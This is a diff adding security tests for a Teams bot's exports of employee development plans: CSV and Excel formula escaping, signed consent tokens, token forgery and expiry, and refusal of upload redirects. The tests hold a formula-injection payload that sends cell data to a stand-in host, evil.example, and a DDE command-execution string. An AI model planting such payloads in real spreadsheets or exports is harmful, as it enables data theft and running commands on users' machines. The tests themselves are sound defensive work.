@@ -131,6 +131,25 @@ describe("exporting the department's development plans", () => {
   it('when an employee asks for them, then it is refused', async () => {
     expect((await harness.submit(demo.mette, { verb: verbs.exportRequest, kind: 'department-plans', subjectId: 'hjemmeplejen-nord' })).map(visibleText).join('\n')).toContain('ikke adgang');
   });
+
+  it("when a goal was typed as a spreadsheet formula, then Lars's CSV has it as inert text with a leading apostrophe and his Excel file as a text cell", async () => {
+    const attack = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")';
+    const plan = await harness.repos.plans.load(id(8), cycle, 'hjemmeplejen-nord');
+    await harness.repos.plans.save(id(8), cycle, plan, {
+      ...plan.plan, revision: 1, goals: [{ id: 'g1', competenceId: 'kommunikationskompetence', goal: attack, evaluation: '@SUM(1+1)*cmd|/C calc', actions: [] }],
+    }, id(8));
+    const offered = links(await harness.submit(demo.lars, { verb: verbs.exportRequest, kind: 'department-plans', subjectId: 'hjemmeplejen-nord' }));
+    const { parse } = await import('csv-parse/sync');
+    const csv = parse((await (await fetch(offered.get('Hent CSV')!)).text()).replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: true }) as string[][];
+    const peter = csv.find((row) => row[0] === 'Peter Larsen')!;
+    expect(peter[5]).toBe(`'${attack}`);
+    expect(peter[6]).toBe("'@SUM(1+1)*cmd|/C calc");
+    const ws = await sheet(offered.get('Hent Excel')!);
+    const cell = rowOf(ws, 'Peter Larsen').getCell(6);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.value).toBe(attack);
+    expect(cell.formula).toBeUndefined();
+  });
 });
 
 describe("HR's municipality-wide figures", () => {
@@ -189,6 +208,12 @@ describe('an export as a file in the chat (Teams file consent)', () => {
       req.on('data', (c: Buffer) => chunks.push(c));
       req.on('end', () => {
         if (req.method === 'PUT') uploads.push({ path: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks) });
+        // An upload URL that sends the file on elsewhere (here: plain http on another path).
+        if (req.url?.startsWith('/redirect/')) {
+          res.writeHead(307, { location: `${oneDrive}/stolen${req.url.slice('/redirect'.length)}` });
+          res.end();
+          return;
+        }
         res.statusCode = answer;
         res.end('{}');
       });
@@ -199,13 +224,21 @@ describe('an export as a file in the chat (Teams file consent)', () => {
   });
   afterAll(() => closeOneDrive());
 
-  type Consent = { contentType: string; name: string; content: { sizeInBytes: number; acceptContext: Record<string, string> } };
+  type Consent = { contentType: string; name: string; content: { sizeInBytes: number; acceptContext: Record<string, string>; declineContext: Record<string, string> } };
   const consentOf = (replies: Awaited<ReturnType<typeof harness.say>>) =>
     replies.flatMap((r) => r.attachments ?? []).find((a) => a.contentType === 'application/vnd.microsoft.teams.card.file.consent') as Consent | undefined;
-  const accept = (user: typeof demo.mette, context: unknown, name: string) => harness.invoke(user, 'fileConsent/invoke', {
+  const accept = (user: typeof demo.mette, context: unknown, name: string, uploadPath = 'upload') => harness.invoke(user, 'fileConsent/invoke', {
     type: 'fileUpload', action: 'accept', context,
-    uploadInfo: { name, uploadUrl: `${oneDrive}/upload/${name}`, contentUrl: `${oneDrive}/files/${name}`, uniqueId: 'file-1', fileType: 'xlsx' },
+    uploadInfo: { name, uploadUrl: `${oneDrive}/${uploadPath}/${name}`, contentUrl: `${oneDrive}/files/${name}`, uniqueId: 'file-1', fileType: 'xlsx' },
   });
+  /** The consent Teams shows when Mette asks for her data as a file: its signed context. */
+  const offeredConsent = async () => {
+    const offer = (await harness.say(demo.mette, 'mine data'))[0]!;
+    const button = (offer.attachments![0]!.content as { actions: Array<{ type: string; data?: Record<string, string> }> }).actions.find((a) => a.type === 'Action.Submit')!;
+    return consentOf(await harness.submit(demo.mette, button.data!))!;
+  };
+  const signedFor = (personId: string, kind: 'my-data' | 'department-plans', subject: string, expiresIn = 60) =>
+    ({ token: signExportLink({ v: 1, kind, format: 'xlsx', personId, subject, cycle, exp: Math.floor(Date.now() / 1000) + expiresIn }, harness.config.exports!.linkKey) });
   const invokeStatus = (replies: Awaited<ReturnType<typeof harness.say>>) => (replies.find((r) => r.type === 'invokeResponse')?.value as { status: number } | undefined)?.status;
 
   it("when Mette asks for her data as a file and accepts, then her Excel file lands in her OneDrive and shows in the chat", async () => {
@@ -233,15 +266,15 @@ describe('an export as a file in the chat (Teams file consent)', () => {
 
   it('when Mette declines, then nothing is uploaded and she is told the links still work', async () => {
     uploads.length = 0;
-    const replies = await harness.invoke(demo.mette, 'fileConsent/invoke', { type: 'fileUpload', action: 'decline', context: { kind: 'my-data', subjectId: '', cycle } });
+    const replies = await harness.invoke(demo.mette, 'fileConsent/invoke', { type: 'fileUpload', action: 'decline', context: (await offeredConsent()).content.declineContext });
     expect(invokeStatus(replies)).toBe(200);
     expect(replies.map(visibleText).join('\n')).toContain('Filen er ikke sendt');
     expect(uploads).toHaveLength(0);
   });
 
-  it("when a consent comes back naming a department's plans Mette may not see, then nothing is uploaded and she is told she has no access", async () => {
+  it("when a validly signed consent names a department's plans Mette may not see, then nothing is uploaded and she is told she has no access", async () => {
     uploads.length = 0;
-    const replies = await accept(demo.mette, { kind: 'department-plans', subjectId: 'hjemmeplejen-nord', cycle }, 'plans.xlsx');
+    const replies = await accept(demo.mette, signedFor(demo.mette.aadObjectId, 'department-plans', 'hjemmeplejen-nord'), 'plans.xlsx');
     expect(invokeStatus(replies)).toBe(200);
     expect(replies.map(visibleText).join('\n')).toContain('ikke adgang');
     expect(uploads).toHaveLength(0);
@@ -254,10 +287,45 @@ describe('an export as a file in the chat (Teams file consent)', () => {
     expect(uploads).toHaveLength(0);
   });
 
+  it("when the client changes the consent's kind, department or cycle, or hands on someone else's, then nothing is made or uploaded", async () => {
+    const { token } = (await offeredConsent()).content.acceptContext as { token: string };
+    expect(token).toMatch(/^[\w-]+\.[\w-]{43}$/);
+    const [body, signature] = token.split('.') as [string, string];
+    const claims = JSON.parse(Buffer.from(body, 'base64url').toString('utf8')) as Record<string, unknown>;
+    expect(claims).toMatchObject({ kind: 'my-data', subject: '', cycle, personId: demo.mette.aadObjectId, format: 'xlsx' });
+    uploads.length = 0;
+    for (const change of [{ kind: 'department-plans', subject: 'hjemmeplejen-nord' }, { cycle: '2020' }, { personId: demo.lars.aadObjectId }]) {
+      const forged = `${Buffer.from(JSON.stringify({ ...claims, ...change })).toString('base64url')}.${signature}`;
+      expect((await accept(demo.mette, { token: forged }, 'x.xlsx')).map(visibleText).join('\n'), JSON.stringify(change)).toContain('Bed om filen igen');
+    }
+    // Lars's own, genuine consent accepted by Mette: not hers.
+    expect((await accept(demo.mette, signedFor(demo.lars.aadObjectId, 'my-data', ''), 'x.xlsx')).map(visibleText).join('\n')).toContain('Bed om filen igen');
+    // The old unsigned context is no consent at all.
+    expect((await accept(demo.mette, { kind: 'my-data', subjectId: '', cycle }, 'x.xlsx')).map(visibleText).join('\n')).toContain('Bed om filen igen');
+    expect(uploads).toHaveLength(0);
+  });
+
+  it('when she accepts a consent after it expired, then she is asked to ask again and nothing is uploaded', async () => {
+    uploads.length = 0;
+    const replies = await accept(demo.mette, signedFor(demo.mette.aadObjectId, 'my-data', '', -1), 'mine.xlsx');
+    expect(replies.map(visibleText).join('\n')).toContain('Bed om den igen');
+    expect(uploads).toHaveLength(0);
+  });
+
+  it('when the upload URL answers with a redirect to plain http, then it is not followed and she is told the file was not sent', async () => {
+    const consent = await offeredConsent();
+    uploads.length = 0;
+    const replies = await accept(demo.mette, consent.content.acceptContext, consent.name, 'redirect');
+    expect(replies.map(visibleText).join('\n')).toContain('Filen kunne ikke lægges i din OneDrive');
+    expect(uploads.map((u) => u.path)).toEqual([`/redirect/${consent.name}`]);
+    expect(replies.flatMap((r) => r.attachments ?? []).some((a) => a.contentType === 'application/vnd.microsoft.teams.card.file.info')).toBe(false);
+  });
+
   it('when OneDrive refuses the upload, then she is told it was not sent (and no file card claims otherwise)', async () => {
+    const consent = await offeredConsent();
     answer = 500;
     try {
-      const replies = await accept(demo.mette, { kind: 'my-data', subjectId: '', cycle }, 'mine.xlsx');
+      const replies = await accept(demo.mette, consent.content.acceptContext, consent.name);
       expect(invokeStatus(replies)).toBe(200);
       expect(replies.map(visibleText).join('\n')).toContain('Filen kunne ikke lægges i din OneDrive');
       expect(replies.flatMap((r) => r.attachments ?? []).some((a) => a.contentType === 'application/vnd.microsoft.teams.card.file.info')).toBe(false);
